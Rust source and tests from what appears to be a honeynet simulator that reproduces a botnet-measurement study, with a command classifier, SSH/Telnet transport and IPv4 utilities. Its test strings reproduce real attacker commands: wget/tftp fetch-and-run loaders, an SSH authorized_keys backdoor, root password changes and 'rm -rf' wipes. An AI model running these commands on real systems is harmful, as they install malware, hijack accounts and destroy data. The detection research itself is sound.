        assert_eq!(
            cl.classify("tftp -g -r x.sh 203.0.113.4; sh x.sh"),
            "gen_ftp"
        );
    }

    #[test]
    fn lockout_family() {
        let cl = c();
        assert_eq!(
            cl.classify("echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd"),
            "root_17_char_pwd"
        );
        assert_eq!(
            cl.classify(
                r#"echo root:a1b2c3d4e5f6|chpasswd; cat /proc/cpuinfo | awk '{print $4,$5,$6,$7,$8,$9;}'"#
            ),
            "root_12_char_capscout"
        );
        assert_eq!(
            cl.classify("echo root:a1b2c3d4e5f6|chpasswd; echo 321"),
            "root_12_char_echo321"
        );
    }

    #[test]
    fn specials() {
        let cl = c();
        assert_eq!(
            cl.classify("curl https://a/ -s -X GET --max-redirs 5 --cookie 'x'"),
            "curl_maxred"
        );
        assert_eq!(
            cl.classify("export LC_ALL=C; wget http://h/stx -O stx"),
            "stx_miner"
        );
        assert_eq!(
            cl.classify("wget http://h/m -O dred.pl; which perl"),
            "perl_dred_miner"
        );
        assert_eq!(cl.classify("openssl passwd -1 Xy12Zw34"), "openssl_passwd");
        assert_eq!(
            cl.classify("echo daemon:Password123|chpasswd"),
            "passwd123_daemon"
        );
        assert_eq!(
            cl.classify("wget -4 http://h/d.sh || dget -4 http://h/d.sh"),
            "wget_dget"
        );
        assert_eq!(
            cl.classify(r#"cd /tmp; echo -e "\x41\x4b\x34\x37"; echo "writable""#),
            "ak47_scout"
        );
        assert_eq!(
            cl.classify("echo $SHELL; dd if=/proc/self/exe bs=22 count=1"),
            "shell_fp"
        );
        assert_eq!(
            cl.classify(
                "cd /tmp ; rm -rf /tmp/* || cd /var/run || cd /mnt || cd /root ; rm -rf /root/* || cd /"
            ),
            "rm_obf_pattern_1"
        );
        assert_eq!(cl.classify("sh update.sh"), "update_attack");
        assert_eq!(
            cl.classify("wget http://h/sora.sh; sh sora.sh"),
            "sora_attack"
        );
    }

    #[test]
    fn prefilter_covers_most_rules() {
        let cl = c();
        assert_eq!(cl.prefiltered_rules() + cl.fallback_rules(), 58);
        // Nearly every Table 1 rule carries a required literal; only
        // top-level alternations like `bbox_unlabelled` cannot.
        assert!(
            cl.prefiltered_rules() >= 50,
            "prefiltered {} / fallback {}",
            cl.prefiltered_rules(),
            cl.fallback_rules()
        );
        assert!(cl.fallback_rules() >= 1);
    }

    #[test]
    fn prefiltered_agrees_with_naive_on_representative_corpus() {
        let cl = c();
        let corpus = [
            "echo mdrfckr >> ~/.ssh/authorized_keys",
            "uname -s -v -n -r -m",
            "uname -a; nproc",
            "/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
            "/bin/busybox wget http://1.2.3.4/g.sh; sh g.sh",
            "busybox ECCHI",
            "cd /tmp; curl -O http://h/x; echo a >> x; ftpget h x x; wget http://h/x",
            "echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd",
            "echo ok",
            r#"echo -e "\x6F\x6B""#,
            "systemctl status sshd",
            "ls -la /",
            "",
            "curl https://a/ -s -X GET --max-redirs 5 --cookie 'x'",
            "wget -4 http://h/d.sh || dget -4 http://h/d.sh",
            "echo $SHELL; dd if=/proc/self/exe bs=22 count=1",
        ];
        for text in corpus {
            assert_eq!(
                cl.classify(text),
                cl.classify_naive(text),
                "divergence on {text:?}"
            );
        }
    }

    #[test]
    fn budget_exhaustions_start_at_zero_and_stay_zero_on_normal_input() {
        let cl = c();
        assert_eq!(cl.budget_exhaustions(), 0);
        cl.classify("uname -a");
        cl.classify("wget http://h/x.sh; sh x.sh");
        assert_eq!(cl.budget_exhaustions(), 0);
    }

    #[test]
    fn unknown_fallback() {
        let cl = c();
        assert_eq!(cl.classify("systemctl status sshd"), UNKNOWN_LABEL);
        assert_eq!(cl.classify(""), UNKNOWN_LABEL);
        assert_eq!(cl.classify("ls -la /"), UNKNOWN_LABEL);
    }

    #[test]
    fn every_archetype_classifies_to_its_category() {
        use botnet::{Archetype, BotCtx};
        use hutil::rng::SeedTree;
        use hutil::Date;
        use rand::SeedableRng;

        let storage_cfg = botnet::storage::StorageConfig::paper_defaults(
            Date::new(2021, 12, 1),
            Date::new(2024, 8, 31),
        );
        let eco = botnet::StorageEcosystem::new(&storage_cfg, SeedTree::new(5), |i, _| {
            (65_500, netsim::Ipv4Addr(0x4000_0000 + i as u32 * 3), None)
        });
        let cl = c();
        let bots: Vec<Archetype> = vec![
            Archetype::EchoOk,
            Archetype::EchoOkTxt,
            Archetype::EchoSshCheck,
            Archetype::EchoOsCheck,
            Archetype::UnameA,
            Archetype::UnameSvnrm,
            Archetype::UnameSvnr,
            Archetype::UnameANproc,
            Archetype::UnameSnriNproc,
            Archetype::BboxScoutCat,
            Archetype::Ak47Scout,
            Archetype::ShellFp,
            Archetype::JuiceSsh,
            Archetype::Clamav,
            Archetype::ExportVei,
            Archetype::CloudPrint,
            Archetype::Binx86,
            Archetype::MdrfckrInitial,
            Archetype::MdrfckrVariant,
            Archetype::MdrfckrB64,
            Archetype::CurlMaxred,
            Archetype::Root17CharPwd,
            Archetype::Root12CharCapscout,
            Archetype::Root12CharEcho321,
            Archetype::OpensslPasswd,
            Archetype::Lenni0451,
            Archetype::StxMiner,
            Archetype::PerlDredMiner,
            Archetype::Bbox5Char,
            Archetype::BboxUnlabelled,
            Archetype::BboxRandExec,
            Archetype::BboxLoaderWget,
            Archetype::BboxEchoElf,
            Archetype::RapperBot,
            Archetype::UpdateAttack,
            Archetype::SoraAttack,
            Archetype::OhshitAttack,
            Archetype::OnionsAttack,
            Archetype::HeisenAttack,
            Archetype::ZeusAttack,
            Archetype::FrSlurAttack,
            Archetype::Passwd123Daemon,
            Archetype::RmObfPattern1,
            Archetype::WgetDget,
            Archetype::GenLoader {
                curl: true,
                echo: false,
                ftp: false,
                wget: true,
                exec: true,
            },
            Archetype::GenLoader {
                curl: false,
                echo: false,
                ftp: false,
                wget: true,
                exec: true,
            },
            Archetype::GenLoader {
                curl: true,
                echo: true,
                ftp: true,
                wget: true,
                exec: true,
            },
        ];
        for bot in bots {
            for seed in 0..8u64 {
                // Dates on both sides of the behavioural shifts.
                for date in [Date::new(2022, 5, 3), Date::new(2023, 7, 19)] {
                    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
                    let mut ctx = BotCtx {
                        rng: &mut rng,
                        date,
                        client_ip: netsim::Ipv4Addr(0x0a00_0001),
                        self_host: false,
                        storage: &eco,
                    };
                    let content = bot.session(&mut ctx);
                    if content.commands.is_empty() {
                        continue;
                    }
                    let text = content.commands.join("\n");
                    let got = cl.classify(&text);
                    assert_eq!(
                        got,
                        bot.name(),
                        "bot {:?} (seed {seed}, {date}) misclassified as {got}; text:\n{text}",
                        bot
                    );
                }
            }
        }
    }
}
