//! Quickstart: generate a scaled honeynet dataset and print the §3.3
//! headline statistics plus the Fig. 1 behavioural shift.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use honeylab::prelude::*;

fn main() {
    // A light scale so the example runs in a few seconds; raise
    // `session_scale` toward 1_000 for experiment-grade runs.
    let mut cfg = DriverConfig::default_scale(42);
    cfg.session_scale = 5_000;
    cfg.ip_scale = 100;

    eprintln!(
        "generating 33 months of honeynet traffic (scale 1:{})…",
        cfg.session_scale
    );
    let dataset = generate_dataset(&cfg);

    let stats = TaxonomyStats::compute(&dataset.sessions);
    print!(
        "{}",
        report::render_dataset_stats(&stats, cfg.session_scale)
    );

    println!();
    let fig1 = report::fig1(&dataset.sessions);
    print!("{}", report::render_fig1(&fig1));

    println!();
    let classifier = Classifier::table1();
    let coverage = report::classification_coverage(&dataset.sessions, &classifier);
    println!(
        "Table 1 classification coverage: {:.2}% (paper: >99%)",
        coverage * 100.0
    );

    let fig2 = report::fig2(&dataset.sessions, &classifier);
    let totals = fig2.totals();
    println!("\nTop non-state-changing bots (Fig 2):");
    for (label, count) in totals.iter().take(5) {
        println!("  {label:<24} {count}");
    }
}
