//! In-memory transport: shuttles bytes between a scripted client and a
//! server until both sides go quiet.

use crate::client::{ClientEvent, SshClient};
use crate::server::{ServerHandler, SshServer};
use crate::SshError;

/// The result of a completed dialogue.
#[derive(Debug)]
pub struct DialogueLog {
    /// Client-side milestones in order.
    pub client_events: Vec<ClientEvent>,
    /// Auth attempts the server saw: `(username, password, accepted)`.
    pub auth_log: Vec<(String, Option<String>, bool)>,
    /// Commands the server executed, in order.
    pub exec_log: Vec<String>,
    /// Username that authenticated, if any.
    pub authenticated_user: Option<String>,
    /// Total bytes that crossed the wire client → server.
    pub bytes_to_server: u64,
    /// Total bytes that crossed the wire server → client.
    pub bytes_to_client: u64,
}

/// Runs `client` against `server` to completion over a lossless in-memory
/// pipe. Returns the combined transcript, or the first protocol error.
///
/// The loop alternates directions; each iteration moves every pending byte,
/// so it terminates as soon as both endpoints stop producing output.
pub fn run_dialogue<H: ServerHandler>(
    mut client: SshClient,
    mut server: SshServer<H>,
) -> Result<(DialogueLog, H), SshError> {
    let mut to_server_total = 0u64;
    let mut to_client_total = 0u64;
    // A generous upper bound on rounds guards against ping-pong bugs; the
    // longest legitimate dialogue (hundreds of commands) stays far below it.
    for _ in 0..100_000 {
        let to_server = client.take_output();
        let to_client = server.take_output();
        if to_server.is_empty() && to_client.is_empty() {
            break;
        }
        if !to_server.is_empty() {
            to_server_total += to_server.len() as u64;
            server.input(&to_server)?;
        }
        if !to_client.is_empty() {
            to_client_total += to_client.len() as u64;
            client.input(&to_client)?;
        }
    }
    let log = DialogueLog {
        client_events: client.into_events(),
        auth_log: server.auth_log().to_vec(),
        exec_log: server.exec_log().to_vec(),
        authenticated_user: server.authenticated_user().map(str::to_string),
        bytes_to_server: to_server_total,
        bytes_to_client: to_client_total,
    };
    Ok((log, server.into_handler()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::ClientScript;
    use crate::server::AuthOutcome;
    use crate::{CLIENT_VERSION_DEFAULT, SERVER_VERSION_DEFAULT};

    /// Cowrie-style policy: root with any password except "root".
    struct CowriePolicy {
        executed: Vec<String>,
    }

    impl ServerHandler for CowriePolicy {
        fn auth(&mut self, username: &str, password: Option<&str>) -> AuthOutcome {
            match (username, password) {
                ("root", Some(pw)) if pw != "root" => AuthOutcome::Accept,
                _ => AuthOutcome::Reject,
            }
        }
        fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
            self.executed.push(command.to_string());
            (format!("ran: {command}\n").into_bytes(), 0)
        }
    }

    fn server() -> SshServer<CowriePolicy> {
        SshServer::new(
            CowriePolicy {
                executed: Vec::new(),
            },
            SERVER_VERSION_DEFAULT,
            [1; 16],
            b"server-nonce".to_vec(),
        )
    }

    fn client(script: ClientScript) -> SshClient {
        SshClient::new(script, b"client-nonce".to_vec())
    }

    #[test]
    fn full_dialogue_with_bruteforce_and_commands() {
        let script = ClientScript::new(
            "root",
            &["root", "admin"],
            &["uname -a", "cd /tmp; wget http://198.51.100.9/x.sh"],
        );
        let (log, handler) = run_dialogue(client(script), server()).unwrap();

        // Server rejected "root", accepted "admin".
        assert_eq!(log.auth_log.len(), 2);
        assert!(!log.auth_log[0].2);
        assert!(log.auth_log[1].2);
        assert_eq!(log.authenticated_user.as_deref(), Some("root"));

        // Both commands executed in order, on the real wire path.
        assert_eq!(
            log.exec_log,
            vec![
                "uname -a".to_string(),
                "cd /tmp; wget http://198.51.100.9/x.sh".to_string(),
            ]
        );
        assert_eq!(handler.executed.len(), 2);

        // Client saw the milestones in order.
        let ev = &log.client_events;
        assert!(matches!(ev[0], ClientEvent::ServerVersion(ref v) if v.contains("OpenSSH")));
        assert!(ev.contains(&ClientEvent::AuthFailed {
            password: "root".into()
        }));
        assert!(ev.contains(&ClientEvent::AuthSucceeded {
            password: "admin".into()
        }));
        let outputs: Vec<_> = ev
            .iter()
            .filter_map(|e| match e {
                ClientEvent::CommandOutput {
                    index,
                    output,
                    status,
                } => Some((*index, output.clone(), *status)),
                _ => None,
            })
            .collect();
        assert_eq!(outputs.len(), 2);
        assert_eq!(outputs[0].0, 0);
        assert_eq!(String::from_utf8_lossy(&outputs[0].1), "ran: uname -a\n");
        assert_eq!(outputs[0].2, Some(0));
        assert!(matches!(ev.last(), Some(ClientEvent::Done)));
        assert!(log.bytes_to_server > 0 && log.bytes_to_client > 0);
    }

    #[test]
    fn scouting_session_auth_exhausted() {
        // Password "root" is the one password Cowrie rejects.
        let script = ClientScript::new("root", &["root"], &["id"]);
        let (log, _) = run_dialogue(client(script), server()).unwrap();
        assert!(log.exec_log.is_empty());
        assert!(log.authenticated_user.is_none());
        assert!(log.client_events.contains(&ClientEvent::AuthExhausted));
    }

    #[test]
    fn intrusion_session_no_commands() {
        let script = ClientScript::new("root", &["admin"], &[]);
        let (log, _) = run_dialogue(client(script), server()).unwrap();
        assert!(log.exec_log.is_empty());
        assert_eq!(log.authenticated_user.as_deref(), Some("root"));
        assert!(matches!(log.client_events.last(), Some(ClientEvent::Done)));
    }

    #[test]
    fn hangup_after_auth_models_3245gs_behaviour() {
        let mut script = ClientScript::new("root", &["3245gs5662d34"], &["never-run"]);
        script.hangup_after_auth = true;
        let (log, _) = run_dialogue(client(script), server()).unwrap();
        assert!(log.exec_log.is_empty(), "must not open a channel");
        assert!(log.client_events.contains(&ClientEvent::AuthSucceeded {
            password: "3245gs5662d34".into()
        }));
    }

    #[test]
    fn wrong_username_never_authenticates() {
        let script = ClientScript::new("admin", &["admin", "1234", "password"], &["id"]);
        let (log, _) = run_dialogue(client(script), server()).unwrap();
        assert_eq!(log.auth_log.len(), 3);
        assert!(log.auth_log.iter().all(|(_, _, ok)| !ok));
        assert!(log.authenticated_user.is_none());
    }

    #[test]
    fn many_commands_over_one_dialogue() {
        // curl_maxred-style: ~100 commands per session (Appendix C).
        let cmds: Vec<String> = (0..100)
            .map(|i| format!("curl https://203.0.113.{}/ -s -X GET", i + 1))
            .collect();
        let cmd_refs: Vec<&str> = cmds.iter().map(String::as_str).collect();
        let script = ClientScript::new("root", &["qwerty"], &cmd_refs);
        let (log, _) = run_dialogue(client(script), server()).unwrap();
        assert_eq!(log.exec_log.len(), 100);
        assert_eq!(log.exec_log[99], cmds[99]);
    }

    #[test]
    fn client_version_is_recorded_by_server() {
        let script = ClientScript::new("root", &["x"], &[]);
        let mut srv = server();
        let mut cli = client(script);
        // Manually pump one round so the server sees the banner.
        let banner = cli.take_output();
        srv.input(&banner).unwrap();
        assert_eq!(srv.peer_version(), Some(CLIENT_VERSION_DEFAULT));
    }
}
