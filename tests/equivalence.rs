//! Cross-path and cross-run invariants: the wire path and the bulk path
//! must observe identical sessions, and generation must be reproducible.

use honeylab::honeypot::wire::{run_wire_session, WireSessionMeta};
use honeylab::honeypot::{AuthPolicy, Protocol, SessionInput, SessionSim};
use honeylab::netsim::latency::LatencyModel;
use honeylab::netsim::Ipv4Addr;
use honeylab::prelude::*;
use honeylab::sshwire::ClientScript;

fn meta() -> WireSessionMeta {
    WireSessionMeta {
        honeypot_id: 3,
        honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
        client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
        client_port: 50000,
        start: Date::new(2022, 8, 1).at(6, 0, 0),
    }
}

/// Runs the same attacker behaviour over both paths and diffs the records.
fn assert_paths_agree(logins: Vec<(&str, &str)>, commands: Vec<&str>) {
    let store = |uri: &str| -> Option<Vec<u8>> {
        uri.contains("203.0.113.5")
            .then(|| format!("#!{uri}\n").into_bytes())
    };

    let passwords: Vec<&str> = logins.iter().map(|(_, p)| *p).collect();
    let user = logins.first().map_or("root", |(u, _)| *u);
    let script = ClientScript::new(user, &passwords, &commands);
    let (wire, _) = run_wire_session(&meta(), script, AuthPolicy::default(), &store)
        .expect("wire dialogue completes");

    let sim = SessionSim::new(AuthPolicy::default(), &store, LatencyModel::new(0));
    let bulk = sim.run(SessionInput {
        honeypot_id: 3,
        honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
        client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
        client_port: 50000,
        protocol: Protocol::Ssh,
        start: Date::new(2022, 8, 1).at(6, 0, 0),
        client_version: wire.client_version.clone(),
        logins: logins
            .iter()
            .map(|(u, p)| (u.to_string(), p.to_string()))
            .collect(),
        commands: commands.iter().map(|c| c.to_string()).collect(),
        idle_out: false,
    });

    assert_eq!(wire.logins, bulk.logins, "auth transcripts must agree");
    assert_eq!(wire.commands, bulk.commands, "command records must agree");
    assert_eq!(wire.uris, bulk.uris, "recorded URIs must agree");
    assert_eq!(wire.file_events, bulk.file_events, "file events must agree");
    assert_eq!(
        honeylab::core::SessionClass::of(&wire),
        honeylab::core::SessionClass::of(&bulk),
        "taxonomy class must agree"
    );
}

#[test]
fn wire_equals_bulk_for_loader_bot() {
    assert_paths_agree(
        vec![("root", "root"), ("root", "admin")],
        vec![
            "uname -s -v -n -r -m",
            "cd /tmp; wget http://203.0.113.5/mirai-9.sh; chmod 777 mirai-9.sh; sh mirai-9.sh; rm -rf mirai-9.sh",
        ],
    );
}

#[test]
fn wire_equals_bulk_for_mdrfckr() {
    let key_plant = format!(
        r#"cd ~; chattr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{}">>.ssh/authorized_keys && chmod -R go= ~/.ssh"#,
        botnet::MDRFCKR_KEY_LINE
    );
    assert_paths_agree(
        vec![("root", "hunter2")],
        vec![key_plant.as_str(), "echo root:A1b2C3d4E5f6G7h8|chpasswd"],
    );
}

#[test]
fn wire_equals_bulk_for_scout() {
    assert_paths_agree(vec![("root", "1234")], vec![r#"echo -e "\x6F\x6B""#]);
}

#[test]
fn wire_equals_bulk_for_dead_dropper() {
    assert_paths_agree(
        vec![("root", "pw")],
        vec!["wget http://198.51.100.66/gone.sh; sh gone.sh"],
    );
}

#[test]
fn wire_equals_bulk_for_failed_auth() {
    // The wire client keeps one username per dialogue, so the bulk input
    // mirrors that (root:root is the one combination Cowrie rejects).
    assert_paths_agree(vec![("root", "root"), ("root", "root")], vec![]);
}

#[test]
fn wire_equals_bulk_for_phil_probe() {
    assert_paths_agree(vec![("phil", "x")], vec![]);
}

#[test]
fn telnet_wire_equals_bulk() {
    use honeylab::honeypot::wire_telnet::{run_telnet_session, TelnetSessionMeta};
    use honeylab::telwire::TelnetScript;
    let store = |uri: &str| -> Option<Vec<u8>> {
        uri.contains("203.0.113.5")
            .then(|| format!("#!{uri}\n").into_bytes())
    };
    let logins = vec![
        ("root".to_string(), "root".to_string()),
        ("root".to_string(), "tv".to_string()),
    ];
    let commands = vec![
        "cd /tmp".to_string(),
        "wget http://203.0.113.5/m.sh; sh m.sh".to_string(),
    ];
    let tmeta = TelnetSessionMeta {
        honeypot_id: 3,
        honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
        client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
        client_port: 50000,
        start: Date::new(2022, 8, 1).at(6, 0, 0),
    };
    let (wire, _) = run_telnet_session(
        &tmeta,
        TelnetScript {
            logins: logins.clone(),
            commands: commands.clone(),
        },
        AuthPolicy::default(),
        &store,
    )
    .expect("telnet dialogue completes");
    let sim = SessionSim::new(AuthPolicy::default(), &store, LatencyModel::new(0));
    let bulk = sim.run(SessionInput {
        honeypot_id: 3,
        honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 3),
        client_ip: Ipv4Addr::from_octets(10, 7, 7, 7),
        client_port: 50000,
        protocol: Protocol::Telnet,
        start: Date::new(2022, 8, 1).at(6, 0, 0),
        client_version: None,
        logins,
        commands,
        idle_out: false,
    });
    assert_eq!(wire.protocol, bulk.protocol);
    assert_eq!(wire.logins, bulk.logins);
    assert_eq!(wire.commands, bulk.commands);
    assert_eq!(wire.uris, bulk.uris);
    assert_eq!(wire.file_events, bulk.file_events);
}

#[test]
fn generation_identical_across_runs() {
    let cfg = DriverConfig::test_scale(99);
    let a = botnet::generate_dataset(&cfg);
    let b = botnet::generate_dataset(&cfg);
    assert_eq!(a.sessions.len(), b.sessions.len());
    for (x, y) in a.sessions.iter().zip(&b.sessions) {
        assert_eq!(x.start, y.start);
        assert_eq!(x.client_ip, y.client_ip);
        assert_eq!(x.honeypot_id, y.honeypot_id);
        assert_eq!(x.command_text(), y.command_text());
        assert_eq!(x.file_events.len(), y.file_events.len());
    }
    assert_eq!(a.ground_truth, b.ground_truth);
    assert_eq!(a.killnet.len(), b.killnet.len());
}

#[test]
fn different_seeds_differ_but_keep_shapes() {
    let a = botnet::generate_dataset(&DriverConfig::test_scale(1));
    let b = botnet::generate_dataset(&DriverConfig::test_scale(2));
    // Different draws...
    assert_ne!(a.sessions.len(), b.sessions.len());
    // ...same qualitative structure.
    for ds in [&a, &b] {
        let stats = TaxonomyStats::compute(&ds.sessions);
        assert!(stats.ordering_matches_paper(), "seed-independent ordering");
        let cl = Classifier::table1();
        let cov = honeylab::core::report::classification_coverage(&ds.sessions, &cl);
        assert!(cov > 0.99, "seed-independent coverage: {cov}");
    }
}
