//! IPv4 addresses, prefixes and deterministic address pools.
//!
//! The study is IPv4-only (paper §7: "focusing only on IPv4 since our
//! investigation centers on attacks targeting IPv4"). AS sizes are compared
//! by *deaggregated /24 count* (Fig. 8b), so prefixes know how to split
//! themselves into /24s.

use rand::rngs::StdRng;
use rand::Rng;
use std::collections::HashSet;

/// An IPv4 address stored as a big-endian `u32`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Ipv4Addr(pub u32);

impl Ipv4Addr {
    /// Builds an address from dotted-quad octets.
    pub fn from_octets(a: u8, b: u8, c: u8, d: u8) -> Self {
        Self(u32::from_be_bytes([a, b, c, d]))
    }

    /// The four octets, most significant first.
    pub fn octets(self) -> [u8; 4] {
        self.0.to_be_bytes()
    }

    /// Parses `"203.0.113.7"`.
    pub fn parse(s: &str) -> Option<Self> {
        let mut it = s.split('.');
        let mut oct = [0u8; 4];
        for o in &mut oct {
            let part = it.next()?;
            if part.is_empty() || part.len() > 3 || !part.bytes().all(|b| b.is_ascii_digit()) {
                return None;
            }
            *o = part.parse().ok()?;
        }
        if it.next().is_some() {
            return None;
        }
        Some(Self(u32::from_be_bytes(oct)))
    }

    /// The /24 containing this address.
    pub fn slash24(self) -> Prefix {
        Prefix::new(Self(self.0 & 0xffff_ff00), 24)
    }
}

impl std::fmt::Display for Ipv4Addr {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let [a, b, c, d] = self.octets();
        write!(f, "{a}.{b}.{c}.{d}")
    }
}

/// A CIDR prefix, e.g. `198.51.100.0/24`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Prefix {
    base: Ipv4Addr,
    len: u8,
}

impl Prefix {
    /// Creates a prefix; host bits of `base` below `len` are masked off.
    pub fn new(base: Ipv4Addr, len: u8) -> Self {
        assert!(len <= 32, "prefix length out of range: {len}");
        let mask = if len == 0 { 0 } else { u32::MAX << (32 - len) };
        Self {
            base: Ipv4Addr(base.0 & mask),
            len,
        }
    }

    /// Network address.
    pub fn base(self) -> Ipv4Addr {
        self.base
    }

    /// Prefix length (CIDR bit count, not a container length).
    #[allow(clippy::len_without_is_empty)]
    pub fn len(self) -> u8 {
        self.len
    }

    /// Number of addresses covered.
    pub fn num_addrs(self) -> u64 {
        1u64 << (32 - self.len)
    }

    /// Whether `addr` falls inside this prefix.
    pub fn contains(self, addr: Ipv4Addr) -> bool {
        let mask = if self.len == 0 {
            0
        } else {
            u32::MAX << (32 - self.len)
        };
        addr.0 & mask == self.base.0
    }

    /// The `i`-th address of the prefix.
    pub fn nth(self, i: u64) -> Ipv4Addr {
        assert!(i < self.num_addrs(), "address index out of prefix");
        Ipv4Addr(self.base.0 + i as u32)
    }

    /// Number of /24 networks after deaggregation (Fig. 8b's size metric).
    /// Prefixes longer than /24 still count as one /24.
    pub fn deaggregated_24s(self) -> u64 {
        if self.len >= 24 {
            1
        } else {
            1u64 << (24 - self.len)
        }
    }

    /// Iterates the deaggregated /24 networks.
    pub fn iter_24s(self) -> impl Iterator<Item = Prefix> {
        let n = self.deaggregated_24s();
        let base = self.base.0 & 0xffff_ff00;
        (0..n).map(move |i| Prefix::new(Ipv4Addr(base + (i as u32) * 256), 24))
    }
}

impl std::fmt::Display for Prefix {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}/{}", self.base, self.len)
    }
}

/// A deterministic pool handing out distinct addresses from a set of
/// prefixes. Used to give each AS a concrete, non-overlapping slice of the
/// simulated address space and to sample attacker client IPs from it.
#[derive(Debug, Clone)]
pub struct Ipv4Pool {
    prefixes: Vec<Prefix>,
    /// Cumulative address counts for weighted indexing.
    cumulative: Vec<u64>,
    total: u64,
    used: HashSet<Ipv4Addr>,
}

impl Ipv4Pool {
    /// Builds a pool over `prefixes`. Overlapping prefixes are allowed but
    /// make duplicate draws more likely to need retries.
    pub fn new(prefixes: Vec<Prefix>) -> Self {
        let mut cumulative = Vec::with_capacity(prefixes.len());
        let mut total = 0u64;
        for p in &prefixes {
            total += p.num_addrs();
            cumulative.push(total);
        }
        Self {
            prefixes,
            cumulative,
            total,
            used: HashSet::new(),
        }
    }

    /// Total addresses covered (ignoring overlap).
    pub fn capacity(&self) -> u64 {
        self.total
    }

    /// Number of addresses already handed out.
    pub fn allocated(&self) -> usize {
        self.used.len()
    }

    /// The address at flat index `i` across all prefixes in order.
    pub fn nth(&self, i: u64) -> Ipv4Addr {
        assert!(i < self.total, "pool index out of range");
        let slot = self.cumulative.partition_point(|&c| c <= i);
        let before = if slot == 0 {
            0
        } else {
            self.cumulative[slot - 1]
        };
        self.prefixes[slot].nth(i - before)
    }

    /// Draws a uniformly random *fresh* address; `None` once the pool is
    /// effectively exhausted (after too many collision retries).
    pub fn draw(&mut self, rng: &mut StdRng) -> Option<Ipv4Addr> {
        if self.total == 0 {
            return None;
        }
        for _ in 0..64 {
            let i = rng.random_range(0..self.total);
            let addr = self.nth(i);
            if self.used.insert(addr) {
                return Some(addr);
            }
        }
        // Dense pool: scan for any free address to stay deterministic.
        for i in 0..self.total {
            let addr = self.nth(i);
            if self.used.insert(addr) {
                return Some(addr);
            }
        }
        None
    }

    /// Whether `addr` belongs to any prefix of the pool.
    pub fn contains(&self, addr: Ipv4Addr) -> bool {
        self.prefixes.iter().any(|p| p.contains(addr))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn octet_roundtrip_and_display() {
        let a = Ipv4Addr::from_octets(203, 0, 113, 7);
        assert_eq!(a.octets(), [203, 0, 113, 7]);
        assert_eq!(a.to_string(), "203.0.113.7");
    }

    #[test]
    fn parse_accepts_valid_rejects_junk() {
        assert_eq!(
            Ipv4Addr::parse("1.2.3.4"),
            Some(Ipv4Addr::from_octets(1, 2, 3, 4))
        );
        assert_eq!(Ipv4Addr::parse("255.255.255.255"), Some(Ipv4Addr(u32::MAX)));
        assert!(Ipv4Addr::parse("1.2.3").is_none());
        assert!(Ipv4Addr::parse("1.2.3.4.5").is_none());
        assert!(Ipv4Addr::parse("1.2.3.256").is_none());
        assert!(Ipv4Addr::parse("1.2.3.x").is_none());
        assert!(Ipv4Addr::parse("").is_none());
    }

    #[test]
    fn prefix_masks_host_bits() {
        let p = Prefix::new(Ipv4Addr::from_octets(10, 1, 2, 3), 16);
        assert_eq!(p.base().to_string(), "10.1.0.0");
        assert_eq!(p.to_string(), "10.1.0.0/16");
        assert_eq!(p.num_addrs(), 65_536);
    }

    #[test]
    fn containment() {
        let p = Prefix::new(Ipv4Addr::from_octets(192, 0, 2, 0), 24);
        assert!(p.contains(Ipv4Addr::from_octets(192, 0, 2, 255)));
        assert!(!p.contains(Ipv4Addr::from_octets(192, 0, 3, 0)));
        let all = Prefix::new(Ipv4Addr(0), 0);
        assert!(all.contains(Ipv4Addr(u32::MAX)));
    }

    #[test]
    fn deaggregation_counts() {
        assert_eq!(Prefix::new(Ipv4Addr(0), 24).deaggregated_24s(), 1);
        assert_eq!(Prefix::new(Ipv4Addr(0), 22).deaggregated_24s(), 4);
        assert_eq!(Prefix::new(Ipv4Addr(0), 16).deaggregated_24s(), 256);
        assert_eq!(Prefix::new(Ipv4Addr(0), 32).deaggregated_24s(), 1);
    }

    #[test]
    fn deaggregated_iteration_is_disjoint_and_covering() {
        let p = Prefix::new(Ipv4Addr::from_octets(10, 0, 0, 0), 22);
        let subs: Vec<_> = p.iter_24s().collect();
        assert_eq!(subs.len(), 4);
        assert_eq!(subs[0].to_string(), "10.0.0.0/24");
        assert_eq!(subs[3].to_string(), "10.0.3.0/24");
        for s in &subs {
            assert!(p.contains(s.base()));
        }
    }

    #[test]
    fn slash24_of_address() {
        assert_eq!(
            Ipv4Addr::from_octets(198, 51, 100, 77)
                .slash24()
                .to_string(),
            "198.51.100.0/24"
        );
    }

    #[test]
    fn pool_nth_spans_prefixes() {
        let pool = Ipv4Pool::new(vec![
            Prefix::new(Ipv4Addr::from_octets(10, 0, 0, 0), 30), // 4 addrs
            Prefix::new(Ipv4Addr::from_octets(20, 0, 0, 0), 31), // 2 addrs
        ]);
        assert_eq!(pool.capacity(), 6);
        assert_eq!(pool.nth(0).to_string(), "10.0.0.0");
        assert_eq!(pool.nth(3).to_string(), "10.0.0.3");
        assert_eq!(pool.nth(4).to_string(), "20.0.0.0");
        assert_eq!(pool.nth(5).to_string(), "20.0.0.1");
    }

    #[test]
    fn pool_draw_is_unique_and_exhausts() {
        let mut pool = Ipv4Pool::new(vec![Prefix::new(Ipv4Addr(0), 29)]); // 8 addrs
        let mut rng = StdRng::seed_from_u64(7);
        let mut seen = HashSet::new();
        for _ in 0..8 {
            let a = pool.draw(&mut rng).expect("pool not yet exhausted");
            assert!(seen.insert(a), "duplicate {a}");
        }
